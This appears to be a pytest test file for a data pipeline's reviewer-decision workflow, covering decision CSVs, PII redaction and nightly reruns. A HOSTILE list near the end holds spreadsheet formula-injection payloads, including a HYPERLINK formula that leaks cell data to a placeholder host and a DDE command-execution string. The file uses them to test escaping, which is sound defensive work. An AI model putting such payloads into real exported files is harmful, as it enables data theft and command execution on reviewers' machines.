"""The review loop: decisions files, how a decision changes a record, and two nightly runs
where the second applies what reviewers decided about the first."""

import csv
import json
import random

import pytest

from pipeline.launch import main
from pipeline.review import ReviewError, read_decisions
from pipeline.review import main as review_main
from pipeline.review import write_rows
from schemas.records import FLAG, QUARANTINE, REDACT, Span, Verdict, make_record
from schemas.review import (CLUSTER, COLUMNS, RECORD, REJECT, RELEASE, Decision, key,
                            neutralized, restored)
from tests.jobs import run_job
from tests.builders import document, edit, write_jsonl
from transforms.decide.decide import decide
from transforms.decide.review import review_of

NO_IMAGES = ("--no-faces", "--no-caption-templates", "--no-layouts")


def decision(scope, id, value, source="f.csv:2"):
    return Decision(scope=scope, id=id, decision=value, reviewer="ana", note="",
                    reviewed_at=None, source=source)


def write_csv(path, rows):
    with open(path, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_decisions_files_are_read_in_order_and_checked(tmp_path):
    first = write_csv(tmp_path / "a.csv", [
        {"scope": "cluster", "id": "exact-1", "decision": "release", "reviewer": "ana"},
        {"scope": "record", "id": "doc-1", "decision": " Reject ", "reviewer": ""},
        {"scope": "record", "id": "doc-2", "decision": "", "reviewer": ""}])  # undecided
    second = write_csv(tmp_path / "b.csv", [
        {"scope": "cluster", "id": "exact-1", "decision": "reject", "reviewer": "bo"}])
    found = read_decisions([str(first), str(second)])
    assert set(found) == {key(CLUSTER, "exact-1"), key(RECORD, "doc-1")}
    assert found[key(CLUSTER, "exact-1")].decision == REJECT    # the later file wins
    assert found[key(CLUSTER, "exact-1")].source == f"{second}:2"
    assert found[key(RECORD, "doc-1")].decision == REJECT
    for rows, message in [
            ([{"scope": "record", "id": "x", "decision": "maybe"}], "decision 'maybe'"),
            ([{"scope": "row", "id": "x", "decision": "reject"}], "scope 'row'"),
            ([{"scope": "record", "id": "", "decision": "reject"}], "no id"),
            ([{"scope": "record", "id": "x", "decision": "reject", "reviewed_at": "monday"}],
             "ISO 8601"),
            ([{"id": "x", "decision": "reject"}], "no column scope")]:
        bad = write_csv(tmp_path / "bad.csv", rows)
        with pytest.raises(ReviewError, match=message):
            read_decisions([str(bad)])


def test_a_record_decision_beats_its_clusters_and_reject_beats_release():
    decisions = {key(CLUSTER, "c1"): decision(CLUSTER, "c1", RELEASE),
                 key(CLUSTER, "c2"): decision(CLUSTER, "c2", REJECT),
                 key(RECORD, "r1"): decision(RECORD, "r1", RELEASE)}
    assert review_of("r1", ["c2"], decisions).decision == RELEASE
    assert review_of("r2", ["c1", "c2"], decisions).decision == REJECT
    assert review_of("r2", ["c1"], decisions).decision == RELEASE
    assert review_of("r2", ["c3"], decisions) is None


def _verdict(reason, action, evidence, representative=None, **typed):
    return Verdict(uid="u", reason=reason, action=action, evidence=json.dumps(evidence),
                   representative_id=representative, group_size=2 if representative else None,
                   **typed)


def test_release_redacts_personal_data_and_keeps_the_rest_as_flags():
    text = "SSN 536-22-1425 on file"
    record = make_record(uid="u", id="r", kind="text", source="s", position=0,
                         location="line 1", text=text)
    span = {"field": "text", "entity_type": "US_SSN", "start": 4, "end": 15, "score": 1.0,
            "recognizer": "r", "preview": "***-***-***"}
    verdicts = [_verdict("pii_government_id", QUARANTINE, {"spans": [span]},
                         spans=[Span("text", "US_SSN", 4, 15, 1.0, "r")]),
                _verdict("exact_duplicate_text", QUARANTINE,
                         {"kept_id": "k", "group_size": 2, "key": "ab"}, "k",
                         cluster="exact-ab")]
    assert decide(record, "r", verdicts).destination == "quarantine"
    where, row, *_ = decide(record, "r", verdicts, decision(RECORD, "r", RELEASE))
    assert where == "cleaned" and row["text"] == "SSN <US_SSN> on file"
    assert [(f["reason"], f["action"]) for f in row["flags"]] == [
        ("exact_duplicate_text", FLAG), ("review_released", FLAG)]
    where, row, *_ = decide(record, "r", verdicts[1:], decision(CLUSTER, "exact-ab", REJECT))
    assert where == "quarantine" and row["reasons"] == ["exact_duplicate_text",
                                                        "review_rejected"]
    assert row["review_status"] == "rejected" and row["reviewer"] == "ana"
    assert row["clusters"] == ["exact-ab"]
    broken = record._replace(defect="malformed_json", defect_detail="x")
    where, row, *_ = decide(broken, "r", [], decision(RECORD, "r", RELEASE))
    assert where == "quarantine" and row["review_status"] == "release_refused"
    assert REDACT not in {e["action"] for e in row["evidence"]}


@pytest.fixture(scope="module")
def nights(tmp_path_factory):
    """Two nightly runs over a growing corpus; reviewers decide between them."""
    folder = tmp_path_factory.mktemp("nights")
    rng = random.Random(3)
    base = [document(rng) for _ in range(6)]
    night_one = [
        ("alpha", base[0]),                                        # kept; rejected by hand
        ("ssn", "New hire paperwork for Tom Baker: SSN 536-22-1425, start date Monday."),
        ("dup-1", base[1]), ("dup-2", base[1]),                     # exact duplicates
        ("near-1", base[2]), ("near-2", edit(rng, base[2], 1)),     # near duplicates
        ("plain", base[3]),
    ]
    write_jsonl(folder / "n1.jsonl", night_one)
    with open(folder / "n1.jsonl", "a") as f:
        f.write("{not json\n")                                     # bad input
    one = run_job(folder / "night-1", [folder / "n1.jsonl"], *NO_IMAGES)

    # The review: hygiene-review lists the night's clusters and records ...
    listed = folder / "review-1.csv"
    assert review_main([str(folder / "night-1"), "-o", str(listed)]) == 0
    with open(listed, newline="") as f:
        rows = list(csv.DictReader(f))
    by_id = {r["id"]: r for r in rows}
    dup_cluster = next(r["id"] for r in rows if r["reason"] == "exact_duplicate_text")
    near_cluster = next(r["id"] for r in rows if r["reason"] == "near_duplicate_text"
                        and "near-2" in r["examples"].split())
    # ... and reviewers fill it in: release the SSN record, the near-duplicate cluster and
    # the bad line; a later file rejects the duplicate cluster a first one released.
    by_id["ssn"]["decision"] = RELEASE
    by_id[near_cluster]["decision"] = RELEASE
    by_id[dup_cluster]["decision"] = RELEASE
    bad = next(r for r in one.quarantine if r["primary_reason"] == "malformed_json")
    rows.append({**rows[-1], "scope": RECORD, "id": bad["id"], "decision": RELEASE})
    rows.append({**rows[-1], "scope": RECORD, "id": "alpha", "decision": REJECT,
                 "reviewer": "bo", "note": "off-topic", "reviewed_at": "2026-11-23T09:30:00Z"})
    first = write_csv(folder / "decisions-1.csv", rows)
    # A spreadsheet that read 00012345 as a number wrote it back as 12345: it matches nothing.
    second = write_csv(folder / "decisions-2.csv", [
        {"scope": CLUSTER, "id": dup_cluster, "decision": REJECT, "reviewer": "bo"},
        {"scope": RECORD, "id": "12345", "decision": REJECT, "reviewer": "bo"}])

    # Night two: the same files and new ones, with new members of both clusters.
    write_jsonl(folder / "n2.jsonl", [("dup-3", base[1]), ("near-3", edit(rng, base[2], 1)),
                                      ("new", base[4])])
    two = run_job(folder / "night-2", [folder / "n1.jsonl", folder / "n2.jsonl"], *NO_IMAGES,
                  "--review-decisions", str(first), str(second))
    return one, two, rows, dup_cluster, near_cluster


def test_the_decisions_file_lists_clusters_and_records_without_raw_pii(nights):
    one, _, rows, dup_cluster, near_cluster = nights
    listed = {(r["scope"], r["id"]) for r in rows}
    assert (CLUSTER, dup_cluster) in listed and (CLUSTER, near_cluster) in listed
    assert (RECORD, "ssn") in listed and (RECORD, "dup-2") in listed
    ssn = next(r for r in rows if r["id"] == "ssn")
    assert "<US_SSN>" in ssn["preview"] and "536-22-1425" not in ssn["preview"]
    bad = [r["id"] for r in one.quarantine if r["primary_reason"] == "malformed_json"]
    assert bad and bad[0] not in {r["id"] for r in rows[:-2]}   # nothing to release


def test_the_second_night_applies_the_first_nights_decisions(nights):
    one, two, _, dup_cluster, near_cluster = nights
    for night in (one, two):
        s = night.summary
        assert s["conservation"]["ok"] and s["records_in"] == (
            s["cleaned"]["total"] + s["quarantined"]["total"])
    assert one.summary["review"] == {"released": 0, "rejected": 0, "release_refused": 0}
    cleaned = {r["id"]: r for r in two.cleaned_text}
    held = {r["id"]: r for r in two.quarantine}
    # Rejected: a record by hand, and every member of a rejected cluster, the kept copy
    # and tonight's new one included.
    assert {"alpha", "dup-1", "dup-2", "dup-3"} <= set(held)
    for name in ("alpha", "dup-1", "dup-2", "dup-3"):
        assert "review_rejected" in held[name]["reasons"]
        assert held[name]["review_status"] == "rejected"
    assert held["alpha"]["reviewer"] == "bo" and held["alpha"]["review_note"] == "off-topic"
    assert held["alpha"]["reviewed_at"].isoformat() == "2026-11-23T09:30:00+00:00"
    assert dup_cluster in held["dup-3"]["clusters"]
    # Released: the SSN record (redacted), and the near-duplicate cluster's members,
    # tonight's new one included.
    assert "<US_SSN>" in cleaned["ssn"]["text"] and "536-22-1425" not in cleaned["ssn"]["text"]
    for name in ("ssn", "near-2", "near-3"):
        assert "review_released" in {f["reason"] for f in cleaned[name]["flags"]}
    assert "near-1" in cleaned and "new" in cleaned and "plain" in cleaned
    # Bad input cannot be released.
    refused = [r for r in held.values() if r["review_status"] == "release_refused"]
    assert [r["primary_reason"] for r in refused] == ["malformed_json"]
    assert two.summary["review"] == {"released": 3, "rejected": 4, "release_refused": 1}
    assert two.manifest()["review"]["decisions"] == 6
    assert one.summary["decisions"] == {"read": 0, "unmatched": 0, "unmatched_examples": []}
    assert two.summary["decisions"] == {"read": 6, "unmatched": 1,
                                        "unmatched_examples": ["record:12345"]}
    assert (two.path / "report" / "index.html").exists()


def test_a_bad_decisions_file_stops_the_run_before_it_starts(tmp_path, capsys):
    bad = write_csv(tmp_path / "d.csv", [{"scope": "record", "id": "x", "decision": "drop"}])
    write_jsonl(tmp_path / "a.jsonl", [("a", "some text")])
    assert main(["--input", str(tmp_path / "a.jsonl"), "--output", str(tmp_path / "o"),
                 "--review-decisions", str(bad)]) == 2
    assert "--review-decisions" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "@SUM(A1)", "+cmd|' /C calc'!A0",
           "-2+3", "\tTAB", "\rCR", "'=already quoted", "'plain quote", "00012345", "doc 7"]


def test_cells_are_never_formulas_and_read_back_exactly():
    for value in HOSTILE:
        cell = neutralized(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert restored(cell) == value
    # A spreadsheet may drop the quote when it saves: the value is the same.
    assert restored("=SUM(A1)") == "=SUM(A1)" and restored("'hello") == "'hello"


def test_the_decisions_file_is_safe_to_open_and_round_trips(tmp_path):
    listed = tmp_path / "review.csv"
    rows = [{"scope": RECORD, "id": value, "reason": "pii_email", "risk": 0.3,
             "preview": value, "size": None} for value in HOSTILE]
    with open(listed, "w", newline="", encoding="utf-8") as out:
        write_rows(out, rows)
    text = listed.read_text(encoding="utf-8")
    with open(listed, newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert len(cells) == len(COLUMNS) * (len(HOSTILE) + 1)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    # Every cell quoted: "00012345" stays text in a spreadsheet that keeps quoted cells as text.
    assert '"00012345"' in text and '"pii_email"' in text and '""' in text
    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in COLUMNS)
    # A reviewer fills the decision column (as a spreadsheet saves it, quotes kept) ...
    with open(listed, newline="", encoding="utf-8") as f:
        filled = list(csv.DictReader(f))
    for row in filled:
        row["decision"] = REJECT
    decided = write_csv(tmp_path / "decided.csv", filled)
    # ... and the decisions name exactly the ids that were listed.
    found = read_decisions([str(decided)])
    assert set(found) == {key(RECORD, value.strip()) for value in HOSTILE}
